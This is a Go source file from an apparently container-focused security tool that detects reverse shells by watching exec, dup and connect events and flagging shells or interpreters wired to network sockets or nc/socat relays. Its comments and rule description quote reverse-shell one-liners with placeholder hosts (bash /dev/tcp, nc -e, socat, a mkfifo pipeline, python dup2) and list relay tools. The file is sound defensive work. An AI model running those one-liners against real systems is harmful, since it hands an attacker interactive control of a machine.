package detect

// Reverse shell: a shell or script interpreter starts with its standard input or output
// connected to a network socket, or starts in a process (or the child of a process) that has
// just duplicated a network socket onto fd 0, 1 or 2.
//
// Reads: exec events (binary, stdio: whether fds 0/1/2 are IPv4/IPv6 sockets, and the peer),
// dup events (dup2/dup3 of an INET socket onto 0/1/2), and the process tree the detector keeps.
//
// Why: this is how an attacker who can run one command turns it into an interactive session:
// `bash -i >& /dev/tcp/H/P 0>&1`, `nc -e /bin/sh H P`, `socat exec:sh tcp:H:P`, python's
// `os.dup2(s.fileno(), 0)` then `pty.spawn("sh")`. A legitimate service does not give a shell
// a TCP socket as its terminal. Unix sockets (systemd hands them to services as stdout) and
// pipes do not count; neither does `sh > file`, because the sensor checks the descriptor's
// file type in the kernel. Relays count too: a shell started by a network relay (socat, nc)
// that holds a TCP connection (`socat tcp:H:P exec:sh,pty`, where the shell's stdio is a pty
// the relay copies to the socket), and a relay that connects while a shell started by the same
// parent runs (a pipeline: `mkfifo f; sh -i <f 2>&1 | nc H P >f`, where the shell never
// touches the socket and neither process is the other's parent).

import (
	"cmp"
	"fmt"
	"path"
	"regexp"

	"redoubt.dev/redoubt/internal/finding"
	"redoubt.dev/redoubt/internal/image"
	"redoubt.dev/redoubt/internal/runtime/event"
)

var reverseShellRule = finding.Register(finding.Rule{
	ID:       "runtime-reverse-shell",
	Title:    "Shell or interpreter wired to a network socket (reverse shell)",
	Phase:    finding.PhaseRuntime,
	Severity: finding.Critical,
	Description: "A shell or script interpreter started with its standard input or output connected to a " +
		"TCP socket, or right after its process duplicated a network socket onto fd 0, 1 or 2. That is a " +
		"reverse shell: someone is typing commands into the container from the other end of the connection " +
		"(`bash -i >& /dev/tcp/H/P 0>&1`, `nc -e /bin/sh`, socat, python's os.dup2).",
	Remediation: "Treat the container as compromised: capture what the alert names (process tree, remote " +
		"address), isolate the pod with a deny-all NetworkPolicy, then delete it and find how the first command " +
		"ran (an exposed exec endpoint, a vulnerable dependency). Remove shells and interpreters from images that " +
		"do not need them, and restrict egress so pods cannot reach arbitrary addresses.",
	References: []string{"mitre-attack:T1059", "mitre-attack:T1071"},
})

// interpreter matches script interpreters that are as good as a shell to an attacker.
var interpreter = regexp.MustCompile(`^(python[0-9.]*|perl[0-9.]*|ruby[0-9.]*|php[0-9.]*|node|nodejs|lua[0-9.]*|tclsh[0-9.]*|irb|pwsh|expect)$`)

// relays are the network tools that can run a program and copy its terminal to a socket.
var relays = map[string]bool{"socat": true, "nc": true, "ncat": true, "netcat": true, "nc.traditional": true, "nc.openbsd": true}

// isShell reports whether the binary is a shell or an interpreter, by file name.
func isShell(binary string) bool {
	name := path.Base(binary)
	if class, ok := image.ComponentClass(name); ok && class == image.ClassShell {
		return true
	}
	return interpreter.MatchString(name)
}

func init() { register(reverseShell) }

func reverseShell(d *Detector, e *event.Event) []finding.Finding {
	if e.Kind == event.KindConnect || e.Kind == event.KindAccept {
		return pipelineRelay(d, e)
	}
	if e.Kind != event.KindExec || !isShell(e.Exec.Binary) {
		return nil
	}
	x := e.Exec
	var wired []string
	for fd, name := range []string{"stdin", "stdout", "stderr"} {
		if x.Stdio[fd].NetworkSocket() {
			wired = append(wired, name)
		}
	}
	stdinOrOut := x.Stdio[0].NetworkSocket() || x.Stdio[1].NetworkSocket()
	// The socket duplicated onto stdio by this process before the exec, or by its parent
	// before it forked this one.
	var dup *event.Dup
	for _, pid := range []uint32{e.Process.PID, e.Process.PPID} {
		if p, ok := d.procs[pid]; ok && dup == nil {
			dup = cmp.Or(p.stdioDups[0], p.stdioDups[1])
		}
	}
	// A relay: the parent is socat or nc, with a connection open, and starts the shell.
	var relay *process
	sibling := false
	if p, ok := d.procs[e.Process.PPID]; ok && p.conn != nil && relays[path.Base(p.binary)] {
		relay = p
	} else if relay = d.connectedSiblingRelay(e.Process.PID, e.Process.PPID); relay != nil {
		// The pipeline's relay connected before this shell's exec reached us: the order of the
		// siblings' execs is the scheduler's, so pipelineRelay may have seen no shell yet.
		sibling = true
	}
	if !stdinOrOut && dup == nil && relay == nil {
		return nil
	}
	var sock *event.Socket
	var how string
	switch {
	case stdinOrOut:
		sock = x.StdioPeer
		how = fmt.Sprintf("with %s connected to", joinWords(wired))
	case dup != nil:
		sock = &dup.Socket
		how = fmt.Sprintf("after fd %d (a socket) was duplicated onto fd %d, connected to", dup.OldFD, dup.NewFD)
	case sibling:
		sock = relay.conn
		how = fmt.Sprintf("in a pipeline with the network relay %s (pid %d), which connected it to", path.Base(relay.binary), relay.pid)
	default:
		sock = relay.conn
		how = fmt.Sprintf("by the network relay %s (pid %d), which relays it to", path.Base(relay.binary), relay.pid)
	}
	// One alert per session: the shells a reverse shell starts (its rc files, the attacker's
	// subshells) inherit the socket and would each raise the same alert.
	key := "?"
	if sock != nil {
		key = sock.Local.String() + ">" + sock.Remote.String()
	}
	if d.inReverseShell(e, key) || d.shellSockets[key] {
		d.proc(e.Process.PID).reverseShell = key
		return nil
	}
	d.proc(e.Process.PID).reverseShell = key
	d.rememberShellSocket(key)
	peer := "a network socket"
	if sock != nil && sock.Remote.IsValid() {
		peer = fmt.Sprintf("%s %s (local %s)", protocolName(sock), sock.Remote, sock.Local)
	}
	msg := fmt.Sprintf("%s (pid %d%s) started %s %s", commandLine(x.Binary, x.Args), e.Process.PID, d.parentPhrase(e), how, peer)
	f := d.newFinding(reverseShellRule, e, msg)
	if sock != nil {
		f.Evidence["socket"] = sock
	}
	if len(wired) > 0 {
		f.Evidence["stdioSockets"] = wired
	}
	if dup != nil {
		f.Evidence["dup"] = dup
	}
	if relay != nil && !stdinOrOut && dup == nil {
		f.Evidence["relay"] = processEvidence{PID: relay.pid, PPID: relay.ppid, Binary: relay.binary, Args: relay.args}
	}
	return []finding.Finding{f}
}

func protocolName(s *event.Socket) string {
	if s.Protocol == "" {
		return "socket to"
	}
	return map[string]string{"tcp": "TCP", "udp": "UDP"}[s.Protocol] + " to"
}

func joinWords(w []string) string {
	switch len(w) {
	case 0:
		return ""
	case 1:
		return w[0]
	case 2:
		return w[0] + " and " + w[1]
	}
	return w[0] + ", " + joinWords(w[1:])
}

// inReverseShell reports whether the process or its parent already belongs to the reverse
// shell on socket key, and marks the process if so.
func (d *Detector) inReverseShell(e *event.Event, key string) bool {
	for _, pid := range []uint32{e.Process.PID, e.Process.PPID} {
		if p, ok := d.procs[pid]; ok && p.reverseShell == key {
			d.proc(e.Process.PID).reverseShell = key
			return true
		}
	}
	return false
}

// connectedSiblingRelay returns a live relay (nc, socat) with an established connection that
// the same parent started beside process pid, or nil.
func (d *Detector) connectedSiblingRelay(pid, ppid uint32) *process {
	if ppid <= 1 {
		return nil
	}
	for _, q := range d.procs {
		if q.ppid == ppid && q.pid != pid && q.conn != nil && relays[path.Base(q.binary)] {
			return q
		}
	}
	return nil
}

// pipelineRelay handles a connection made by a relay (nc, socat): a live shell that is the
// relay's sibling, started by the same parent, is wired to that connection through pipes.
func pipelineRelay(d *Detector, e *event.Event) []finding.Finding {
	relay, ok := d.procs[e.Process.PID]
	if !ok || !e.Conn.Established || !relays[path.Base(relay.binary)] || e.Process.PPID <= 1 {
		return nil
	}
	key := e.Conn.Local.String() + ">" + e.Conn.Remote.String()
	var out []finding.Finding
	for _, p := range d.procs {
		if p.ppid != e.Process.PPID || p.pid == relay.pid || !isShell(p.binary) || p.reverseShell != "" {
			continue
		}
		p.reverseShell = key
		d.rememberShellSocket(key)
		sock := e.Conn.Socket
		msg := fmt.Sprintf("%s (pid %d, parent pid %d) runs in a pipeline with the network relay %s (pid %d), which connected it to %s %s (local %s)",
			commandLine(p.binary, p.args), p.pid, p.ppid, path.Base(relay.binary), relay.pid, protocolName(&sock), sock.Remote, sock.Local)
		f := reverseShellRule.New(resource(e.Origin), finding.Location{Node: e.Origin.Node, UID: e.Origin.PodUID}, msg)
		f.Evidence = map[string]any{
			"origin":  e.Origin,
			"process": processEvidence{PID: p.pid, PPID: p.ppid, Binary: p.binary, Args: p.args},
			"relay":   processEvidence{PID: relay.pid, PPID: relay.ppid, Binary: relay.binary, Args: relay.args},
			"socket":  &sock,
		}
		if parent, ok := d.procs[p.ppid]; ok {
			f.Evidence["parent"] = processEvidence{PID: parent.pid, PPID: parent.ppid, Binary: parent.binary, Args: parent.args}
		}
		out = append(out, f)
	}
	return out
}

func (d *Detector) rememberShellSocket(key string) {
	if key == "?" {
		return
	}
	if len(d.shellSockets) >= maxShellSockets {
		clear(d.shellSockets)
	}
	d.shellSockets[key] = true
}
